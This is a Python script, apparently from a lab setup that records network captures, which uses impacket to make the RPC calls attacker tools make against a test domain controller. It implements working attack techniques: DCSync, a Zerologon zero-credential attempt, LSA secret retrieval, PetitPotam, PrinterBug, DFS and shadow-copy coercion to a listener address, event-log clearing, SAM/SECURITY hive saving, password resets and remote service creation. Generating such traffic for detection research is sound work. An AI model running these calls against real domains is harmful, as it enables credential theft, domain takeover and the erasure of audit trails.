#!/usr/bin/python3
"""What an attacker's tools call, made with impacket: run by `record` on the lab's client.

impacket sends each RPC fragment by an SMB write and reads the answer, where Samba's clients
(samba_client.py) use one transceive. Every call prints a line with its result, so that the log of
a recording says what the capture has to hold.
"""

import argparse
import sys

from impacket import smb, smb3structs
from impacket.dcerpc.v5 import (bkrp, drsuapi, dssp, epm, even, lsad, lsat, nrpc, rpcrt, rprn, rrp,
                                samr, scmr, srvs, transport, wkst)
from impacket.dcerpc.v5.dtypes import DWORD, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.examples.secretsdump import RemoteOperations
from impacket.smbconnection import SessionError, SMBConnection
from impacket.uuid import string_to_bin, uuidtup_to_bin

import impacket_log  # noqa: F401
from domain import ADMIN_PASSWORD, DOMAIN

SERVER = "dc1.lab.test"
DIALECTS = {"smb1": smb.SMB_DIALECT, "2.0.2": smb3structs.SMB2_DIALECT_002,
            "2.1": smb3structs.SMB2_DIALECT_21, "3.0": smb3structs.SMB2_DIALECT_30}
ZERO_CREDENTIAL = b"\0" * 8
ALL_NETLOGON_FLAGS = 0x212FFFFF  # what the published Zerologon test sends [MS-NRPC §3.1.4.2]
# BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, what every DPAPI client asks for [MS-BKRP §3.1.4.1.3]
RETRIEVE_PUBLIC_KEY = string_to_bin("018FF48A-EABA-40C6-8F6D-72370240E967")


LISTENER = r"\\10.77.0.99\share"  # where a coerced server is told to log on; nobody is there
NETDFS = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))
EFSRPC = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
FSRVP = uuidtup_to_bin(("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0"))


class NetrDfsRemoveStdRoot(NDRCALL):  # [MS-DFSNM §3.1.4.4.2]
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


class NetrDfsAddStdRoot(NDRCALL):  # [MS-DFSNM §3.1.4.4.1]
    opnum = 12
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("Comment", WSTR), ("ApiFlags", DWORD))


class EfsRpcOpenFileRaw(NDRCALL):  # [MS-EFSR §3.1.4.2.1]
    opnum = 0
    structure = (("FileName", WSTR), ("Flags", DWORD))


class IsPathSupported(NDRCALL):  # [MS-FSRVP §3.1.4.9]
    opnum = 8
    structure = (("ShareName", WSTR),)


def credentials(user):
    return user, ADMIN_PASSWORD, DOMAIN


def protect(association, options):
    """protect sets how the association's calls are signed or sealed, and for whom, if not for the
    user of the SMB session."""
    if options.rpc_user:
        association.set_credentials(*credentials(options.rpc_user))
    if options.rpc_user or options.integrity:
        association.set_auth_level(rpcrt.RPC_C_AUTHN_LEVEL_PKT_INTEGRITY)
    if options.connect_level:
        association.set_auth_level(rpcrt.RPC_C_AUTHN_LEVEL_CONNECT)
    if options.privacy:
        association.set_auth_level(rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY)


def connect(options, interface, pipe):
    """connect returns an association that is bound to the interface."""
    rpc_transport = reach(options, interface, pipe)
    association = rpc_transport.get_dce_rpc()
    protect(association, options)
    association.connect()
    association.bind(interface)
    if options.fragment:
        association.set_max_fragment_size(options.fragment)
    return association


def reach(options, interface, pipe):
    """reach returns a transport to the interface, not yet connected."""
    if options.over == "tcp":
        binding = epm.hept_map(options.server, interface, protocol="ncacn_ip_tcp")
    else:
        binding = rf"ncacn_np:{options.server}[\pipe\{pipe}]"
    rpc_transport = transport.DCERPCTransportFactory(binding)
    if options.over == "smb":
        rpc_transport.preferred_dialect(DIALECTS[options.dialect])
        rpc_transport.set_dport(options.port)
    if not options.anonymous:
        rpc_transport.set_credentials(*credentials(options.user))
    if options.split:
        rpc_transport.set_max_fragment_size(options.split)
    return rpc_transport


def report(what, call, *arguments):
    """report makes one call, prints what came of it, and returns the answer, if there is one."""
    try:
        answer = call(*arguments)
        print(f"{what}: success")
        return answer
    except rpcrt.DCERPCException as error:
        print(f"{what}: {error}")
        return None


def open_policy(options):
    """open_policy returns an association and a policy handle; over TCP, where Samba opens none, a
    made-up one."""
    association = connect(options, lsad.MSRPC_UUID_LSAD, "lsarpc")
    if options.over == "tcp":
        return association, b"\0" * 4 + b"\x11" * 16
    return association, lsad.hLsarOpenPolicy2(association)["PolicyHandle"]


def retrieve(options):
    association, policy = open_policy(options)
    for name in options.names:
        report(f"LsarRetrievePrivateData {name}",
               lsad.hLsarRetrievePrivateData, association, policy, name)


def secret(options):
    association, policy = open_policy(options)
    for name in options.names:
        opened = report(f"LsarOpenSecret {name}", lsad.hLsarOpenSecret, association, policy, name)
        if opened:
            report(f"LsarQuerySecret {name}", lsad.hLsarQuerySecret, association,
                   opened["SecretHandle"])


def dcsync(options):
    """dcsync asks for accounts as secretsdump does. Samba takes the request for malformed."""
    server = SMBConnection(options.server, options.server, preferredDialect=DIALECTS[options.dialect])
    server.login(*credentials(options.user))
    operations = RemoteOperations(server, doKerberos=False)
    for name in options.names:
        cracked = operations.DRSCrackNames(drsuapi.DS_NAME_FORMAT.DS_NT4_ACCOUNT_NAME,
                                           drsuapi.DS_NAME_FORMAT.DS_UNIQUE_ID_NAME, name)
        guid = cracked["pmsgOut"]["V1"]["pResult"]["rItems"][0]["pName"][:-1]
        report(f"DRSGetNCChanges {name} (impacket misreads the refusal)",
               operations.DRSGetNCChanges, guid)
    operations.finish()
    server.logoff()


def zerologon(options):
    association = connect(options, nrpc.MSRPC_UUID_NRPC, "netlogon")
    account, kind = "DC1$", nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
    for authenticate in (nrpc.hNetrServerAuthenticate3, nrpc.hNetrServerAuthenticate3,
                         nrpc.hNetrServerAuthenticate2):
        report("NetrServerReqChallenge, zeros", nrpc.hNetrServerReqChallenge, association,
               SERVER, "DC1", ZERO_CREDENTIAL)
        report(f"{authenticate.__name__[1:]}, zeros", authenticate, association, SERVER, account,
               kind, "DC1", ZERO_CREDENTIAL, ALL_NETLOGON_FLAGS)


def alter_context(options):
    """alter_context binds to one interface, changes to another, and calls both in turn."""
    roles = connect(options, dssp.MSRPC_UUID_DSSP, "lsarpc")
    report("DsRolerGetPrimaryDomainInformation", dssp.hDsRolerGetPrimaryDomainInformation, roles, 1)
    policies = roles.alter_ctx(lsad.MSRPC_UUID_LSAD)
    for name in options.names:
        report(f"LsarRetrievePrivateData {name}", lsad.hLsarRetrievePrivateData, policies,
               b"\0" * 4 + b"\x11" * 16, name)
        report("DsRolerGetPrimaryDomainInformation", dssp.hDsRolerGetPrimaryDomainInformation,
               roles, 1)


def two_pipes(options):
    """two_pipes calls over two pipes of one session in turn."""
    first, policy = open_policy(options)
    session = first.get_rpc_transport().get_smb_connection()
    other = transport.SMBTransport(options.server, filename=r"\samr", smb_connection=session)
    accounts = other.get_dce_rpc()
    accounts.connect()
    accounts.bind(samr.MSRPC_UUID_SAMR)
    for name in options.names:
        report("SamrConnect", samr.hSamrConnect, accounts)
        report(f"LsarRetrievePrivateData {name}", lsad.hLsarRetrievePrivateData, first, policy, name)


def lookup(options):
    """lookup asks for hundreds of names at once: a call that needs several fragments."""
    association = connect(options, lsat.MSRPC_UUID_LSAT, "lsarpc")
    policy = lsad.hLsarOpenPolicy2(association)["PolicyHandle"]
    report("LsarLookupNames", lsat.hLsarLookupNames, association, policy,
           [f"nobody-of-this-name-{number}" for number in range(300)])


def clear_log(options):
    association = connect(options, even.MSRPC_UUID_EVEN, "eventlog")
    for name in options.names:
        opened = report(f"ElfrOpenELW {name}", even.hElfrOpenELW, association, name)
        if opened:
            report(f"ElfrClearELFW {name}", even.hElfrClearELFW, association, opened["LogHandle"])


def coerce(options):
    """coerce makes the calls that have a server log on at LISTENER, by the interfaces named."""
    for name in options.names:
        try:
            COERCIONS[name](options)
        except rpcrt.DCERPCException as error:
            print(f"{name}: {error}")
        except SessionError as error:
            print(f"{name}: {error}")


def coerce_by_backup_log(options):
    association = connect(options, even.MSRPC_UUID_EVEN, "eventlog")
    report("ElfrOpenBELW", even.hElfrOpenBELW, association, rf"\??\UNC{LISTENER[1:]}\log")


def coerce_by_printer(options):
    association = connect(options, rprn.MSRPC_UUID_RPRN, "spoolss")
    opened = report("RpcOpenPrinter", rprn.hRpcOpenPrinter, association, rf"\\{options.server}")
    if opened:
        report("RpcRemoteFindFirstPrinterChangeNotificationEx",
               rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx, association, opened["pHandle"],
               rprn.PRINTER_CHANGE_ADD_JOB, 0, r"\\10.77.0.99" + "\0")


def send_raw(options, interface, pipe, call, **arguments):
    """send_raw makes a call that impacket has no answer for; a fault is all that Samba gives."""
    association = connect(options, interface, pipe)
    for name, value in arguments.items():
        call[name] = value
    association.call(call.opnum, call)
    try:
        print(f"{type(call).__name__}: {len(association.recv())} octets")
    except rpcrt.DCERPCException as error:
        print(f"{type(call).__name__}: {error}")


def coerce_by_dfs(options):
    send_raw(options, NETDFS, "netdfs", NetrDfsRemoveStdRoot(), ServerName="10.77.0.99\0",
             RootShare="share\0", ApiFlags=0)
    send_raw(options, NETDFS, "netdfs", NetrDfsAddStdRoot(), ServerName="10.77.0.99\0",
             RootShare="share\0", Comment="lab\0", ApiFlags=0)


def coerce_by_efs(options):
    send_raw(options, EFSRPC, "lsarpc", EfsRpcOpenFileRaw(), FileName=rf"{LISTENER}\file" + "\0",
             Flags=0)


def coerce_by_shadow_copy(options):
    send_raw(options, FSRVP, "FssagentRpc", IsPathSupported(), ShareName=LISTENER + "\0")


COERCIONS = {"even": coerce_by_backup_log, "rprn": coerce_by_printer, "dfs": coerce_by_dfs,
             "efs": coerce_by_efs, "fsrvp": coerce_by_shadow_copy}


def sessions(options):
    """sessions enumerates who is where, as attack path tools do."""
    association = connect(options, srvs.MSRPC_UUID_SRVS, "srvsvc")
    report("NetrSessionEnum", srvs.hNetrSessionEnum, association, NULL, NULL, 10)
    report("NetrShareEnum", srvs.hNetrShareEnum, association, 1)
    association = connect(options, wkst.MSRPC_UUID_WKST, "wkssvc")
    report("NetrWkstaUserEnum", wkst.hNetrWkstaUserEnum, association, 1)


def logged_on(options):
    """logged_on lists the hives of HKEY_USERS, which tells who is logged on."""
    association = connect(options, rrp.MSRPC_UUID_RRP, "winreg")
    opened = report("OpenUsers", rrp.hOpenUsers, association)
    if opened:
        report("BaseRegEnumKey", rrp.hBaseRegEnumKey, association, opened["phKey"], 0)


def save_hives(options):
    association = connect(options, rrp.MSRPC_UUID_RRP, "winreg")
    machine = rrp.hOpenLocalMachine(association)["phKey"]
    for name in options.names:
        opened = report(f"BaseRegOpenKey {name}", rrp.hBaseRegOpenKey, association, machine, name)
        if opened:
            report(f"BaseRegSaveKey {name}", rrp.hBaseRegSaveKey, association, opened["phkResult"],
                   rf"C:\Windows\Temp\{name[:3]}.tmp")


def reset_password(options):
    """reset_password sets another's password [MS-SAMR §3.1.5.6.4.4]."""
    association = connect(options, samr.MSRPC_UUID_SAMR, "samr")
    server = samr.hSamrConnect(association)["ServerHandle"]
    sid = samr.hSamrLookupDomainInSamServer(association, server, DOMAIN)["DomainId"]
    domain = samr.hSamrOpenDomain(association, server, domainId=sid)["DomainHandle"]
    for name in options.names:
        found = samr.hSamrLookupNamesInDomain(association, domain, (name,))
        number = found["RelativeIds"]["Element"][0]["Data"]
        user = samr.hSamrOpenUser(association, domain, userId=number)["UserHandle"]
        report(f"SamrSetInformationUser2 {name}", samr.hSamrSetPasswordInternal4New, association,
               user, ADMIN_PASSWORD + "new")
        report(f"SamrSetInformationUser2 {name}", samr.hSamrSetPasswordInternal4New, association,
               user, ADMIN_PASSWORD)


def create_service(options):
    association = connect(options, scmr.MSRPC_UUID_SCMR, "svcctl")
    manager = scmr.hROpenSCManagerW(association)["lpScHandle"]
    for name in options.names:
        report(f"RCreateServiceW {name}", lambda service: scmr.hRCreateServiceW(
            association, manager, service, service, lpBinaryPathName=r"%COMSPEC% /Q /c echo lab"),
            name)


def wrong_password(options):
    server = SMBConnection(options.server, options.server, preferredDialect=DIALECTS[options.dialect])
    try:
        server.login(options.user, "not " + ADMIN_PASSWORD, DOMAIN)
    except SessionError as error:
        print(f"logon as {options.user}: {error}")
    server.close()


def public_key(options):
    association = connect(options, bkrp.MSRPC_UUID_BKRP, "protected_storage")
    report("BackuprKey", bkrp.hBackuprKey, association, RETRIEVE_PUBLIC_KEY, NULL)


ACTIONS = {"retrieve": retrieve, "secret": secret, "dcsync": dcsync, "zerologon": zerologon,
           "create-service": create_service, "public-key": public_key,
           "wrong-password": wrong_password, "alter-context": alter_context, "two-pipes": two_pipes,
           "lookup": lookup, "clear-log": clear_log, "coerce": coerce, "sessions": sessions,
           "logged-on": logged_on, "save-hives": save_hives, "reset-password": reset_password}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("action", choices=ACTIONS)
    parser.add_argument("names", nargs="*", help="secrets, accounts, services, interfaces ...")
    parser.add_argument("--server", default=SERVER)
    parser.add_argument("--port", type=int, default=445, help="of SMB")
    parser.add_argument("--over", choices=("smb", "tcp"), default="smb")
    parser.add_argument("--dialect", choices=DIALECTS, default="2.1")
    parser.add_argument("--privacy", action="store_true", help="seal the stubs")
    parser.add_argument("--integrity", action="store_true", help="sign them")
    parser.add_argument("--connect-level", action="store_true", help="authenticate, no more")
    parser.add_argument("--split", type=int, help="octets in a write")
    parser.add_argument("--anonymous", action="store_true")
    parser.add_argument("--user", default="Administrator")
    parser.add_argument("--rpc-user", help="who calls, if not the user of the SMB session")
    parser.add_argument("--fragment", type=int, help="octets of stub in a fragment")
    options = parser.parse_args()
    ACTIONS[options.action](options)


if __name__ == "__main__":
    sys.exit(main())
